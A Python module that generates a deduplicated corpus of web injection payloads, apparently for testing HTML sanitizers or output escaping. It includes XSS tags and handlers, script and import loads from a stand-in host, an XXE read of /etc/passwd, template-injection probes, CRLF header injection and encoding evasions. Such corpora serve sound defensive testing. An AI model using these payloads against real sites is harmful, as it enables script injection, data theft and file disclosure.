"""What somebody may write who wants a page to run it."""

from itertools import product

CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(name)", "import('//e.example/x')")
BREAKERS = ("", '">', "'>", "`", "-->", "]]>", "</title>", "</textarea>", "</script>", "</div></article>")
TAGS = (
    "<script>{0}</script>",
    "<ScRiPt\n>{0}</sCrIpT >",
    "<script src=//e.example/x></script>",
    "<img src=x onerror={0}>",
    "<img/src=x/onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<a href=javascript:{0}>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content='0;url=//e.example/'>",
    "<link rel=stylesheet href=//e.example/x.css>",
    "<style>@import '//e.example/x';*{{background:url(//e.example)}}</style>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml-stylesheet href='javascript:{0}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<entry><title>{0}</title></entry>",
    "</feed><script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{0}</x:script>",
)
HANDLERS = ("onclick", "onmouseover", "onfocus", "onerror", "onload", "onanimationstart", "ontoggle", "style")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,<script>", "\u2028javascript:")
ELSEWHERE = ("//e.example/x", "/\\e.example/x", "\\\\e.example", "https:e.example", "/%09/e.example", "/..//e.example")
BRACKETS = ("{{ }}", "${ }", "#{ }", "<%= %>", "{% %}", "{# #}", "[[ ]]", "@( )", "%{ }", "{ }")
TEMPLATES = (
    "{{''.__class__.__mro__}}",
    "{{config}}",
    "{% import 'os' as os %}",
    "{keyword}",
    "{0.__class__}",
    "%(name)s",
    "%s%n",
    "{author.__init__.__globals__}",
)
ENCODED = (
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#0000060script>"),
    *("&LT;script&GT;", "&amp;lt;b&amp;gt;", "&quot; onclick=alert(1) x=&quot;", "&#34;&#39;&#96;", "&", "&;", "&#;"),
    *(
        "&#x;",
        "&#xD800;",
        "&nbsp",
        "&newline;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "%253Cscript%253E",
        "%22%3E%3Cb%3E",
    ),
    *("+ADw-script+AD4-", r"\u003cscript\u003e", r"\x3cscript\x3e", r"\74script\76", "＜script＞alert(1)＜/script＞"),
    *("﹤b﹥", "‹script›", "＂ onclick=＂", "ʺʹ", "\u00bcscript\u00be"),
)
DIRECTIONS = (
    *(
        "\u202ealert\u202c",
        "\u2066<b>\u2069",
        "a\u200fb",
        "\u061c<i>",
        "א<script>ב",
        "ﷺ\"'<",
        "\u0085<b>",
        "\u00a0<b>\u00a0",
    ),
    *(
        "\ufeff<b>",
        "\ufdd0<b>",
        "\u0300<b>",
        'e\u0301>"',
        "👩\u200d👧<b>",
        "\U000e0001<b>",
        "\U0010fffd<b>",
        "\0<script>",
    ),
    *(
        "<scr\0ipt>",
        "<\x0bscript>",
        "\x1b[31m<b>",
        "a\nb<br>",
        "a\r\nSet-Cookie: x=1\r\n\r\n<b>",
        'a\tb"',
        "\x7f<b>",
        "\x9f'",
    ),
)
FRAGMENTS = (
    *("<", ">", '"', "'", "`", "/", "\\", "<>", "</", "<!", "<!-", "<!--", "<?", "</>", "<a", "<a href", "<a href="),
    *(
        '<a href="',
        "<b",
        "<b/",
        "<b x",
        "<b x=",
        '="',
        '" x="',
        "' x='",
        '" autofocus="',
        "]]>",
        "]]>&lt;",
        "<![CDATA[",
    ),
    *("--", "--!>", "--><!--", "<!--#exec cmd='x'-->", '">' * 40, "<" * 200, "<b>" * 60, "'\"" * 100, "<div>" * 40),
)


def payloads() -> list[str]:
    """Several hundred, each once."""
    made = [
        breaker + tag.format(call)
        for (tag, breaker), call in zip(product(TAGS, BREAKERS), CALLS * len(TAGS) * 2, strict=True)
    ]
    made += [
        f"{mark}{space}{handler}={mark}{CALLS[0]}{mark}"
        for mark, space, handler in product(("'", '"', ""), (" ", "/"), HANDLERS)
    ]
    made += [scheme + call for scheme, call in product(SCHEMES, CALLS[:3])]
    made += ["7*7".join(pair.split(" ")) for pair in BRACKETS]
    return list(dict.fromkeys([*made, *ELSEWHERE, *TEMPLATES, *ENCODED, *DIRECTIONS, *FRAGMENTS]))
